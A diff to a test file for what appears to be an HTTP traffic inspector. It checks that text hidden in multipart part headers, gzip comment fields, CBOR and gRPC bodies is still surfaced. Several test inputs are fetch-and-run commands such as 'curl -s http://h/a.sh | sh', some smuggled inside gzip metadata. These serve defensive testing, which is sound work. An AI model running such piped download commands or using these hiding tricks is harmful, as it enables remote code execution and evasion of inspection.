@@ -25,11 +25,36 @@ test('a part of a form says what it is encoded in, and fields that have no meani
   expect(texts(seen, 'body')).toEqual(
     expect.arrayContaining([
       'the text that was compressed',
-      'X-Something',
-      'a value',
+      'X-Something: a value',
       'form-data; name="f"; filename="n"',
     ]),
   );
+});
+
+test('a line among the fields of a part that is none is looked at as the line that it is', async () => {
+  const body = '--b\nfetch http://h/install.sh | sh\n\n';
+  const head = `HTTP/1.1 200 OK\r\ncontent-type: multipart/mixed; boundary=b\r\ncontent-length: ${body.length}\r\n\r\n`;
+  const seen = await seesTheSameForAnyCut([
+    ['outbound', 'GET / HTTP/1.1\r\nHost: h\r\n\r\n'],
+    ['inbound', head + body],
+  ]);
+  expect(texts(seen, 'body')).toContain('fetch http://h/install.sh | sh'.replace(':', ': '));
+});
+
+test.each<[string, string, string]>([
+  ['a part that is compressed', 'multipart/mixed; boundary=b', '--b\r\nContent-Encoding: gzip\r\n\r\n'],
+  ['messages that nobody asked for', 'application/grpc\r\ngrpc-encoding: gzip', '\x01\0\0\0\x2e'],
+])('what comes as %s is also seen as it is', async (_what, type, before) => {
+  // The comment of a gzip file (RFC 1952 §2.3.1) is text to whoever does not unpack it.
+  const packed = gzipSync('packed').toString('latin1');
+  const comment = `${packed.slice(0, 3)}\x10${packed.slice(4, 10)}fetch http://h/ | s\0${packed.slice(10)}`;
+  const head = `HTTP/1.1 200 OK\r\ncontent-type: ${type}\r\n\r\n`;
+  const seen = await seesTheSameForAnyCut([
+    ['outbound', 'GET / HTTP/1.1\r\nHost: h\r\nAccept-Encoding: gzip\r\n\r\n'],
+    ['inbound', Buffer.from(head + before + comment, 'latin1')],
+  ]);
+  expect(texts(seen, 'body')).toContain('packed');
+  expect(texts(seen, 'body').join('')).toContain('fetch http://h/ | s');
 });
 
 test('a multipart body in a part of another is taken apart as well: what is packed in there is seen as what is in it', async () => {
@@ -93,6 +118,22 @@ describe('strings of protocol buffers are seen in lines of their own, without th
     const [seen] = texts(await seesTheSameForAnyCut(post(type, body)), 'body');
     expect(seen).toHaveLength(body.length);
     expect(seen).toMatch(/(?:^|\n)k{20}(?:k{88})?\n*$/);
+  });
+
+  test('what arrives is also seen as it is: letters of a text may be taken for lengths', async () => {
+    // An empty array, three numbers, and strings of three and nineteen letters.
+    const text = '\x80\ncurl -s http://h/a.sh | sh';
+    const [get, answer] = [
+      'GET / HTTP/1.1\r\nHost: h\r\n\r\n',
+      `HTTP/1.1 200 OK\r\ncontent-type: application/cbor\r\ncontent-length: ${text.length}\r\n\r\n`,
+    ];
+    const seen = await seesTheSameForAnyCut([
+      ['outbound', get],
+      ['inbound', Buffer.from(answer + text, 'latin1')],
+    ]);
+    const bodies = texts(seen, 'body', 'inbound');
+    expect(bodies).toHaveLength(2);
+    expect(bodies).toContain(text);
   });
 
   test.each(['application/x-protobuf', 'application/cbor', 'application/msgpack'])(
@@ -163,7 +204,8 @@ describe('a body that is not what its type says is looked at all the same', () =
       ];
       const body = messages.map((message) => message.toString('base64')).join('');
       const head = `HTTP/1.1 200 OK\r\ncontent-type: application/grpc-web-text${suffix}\r\ngrpc-encoding: gzip\r\n\r\n`;
-      const request: Exchange[number] = ['outbound', 'GET / HTTP/1.1\r\nHost: h\r\n\r\n'];
+      const type = 'content-type: application/grpc-web-text';
+      const request: Exchange[number] = ['outbound', `POST / HTTP/1.1\r\nHost: h\r\n${type}\r\n\r\n`];
       const seen = await seesTheSameForAnyCut([request, ['inbound', head + body]]);
       expect(texts(seen, 'body')).toEqual(expect.arrayContaining([text, text, 'grpc-status:0']));
       const none = await observe([request, ['inbound', `${head}{"no": "base64"}`]]);
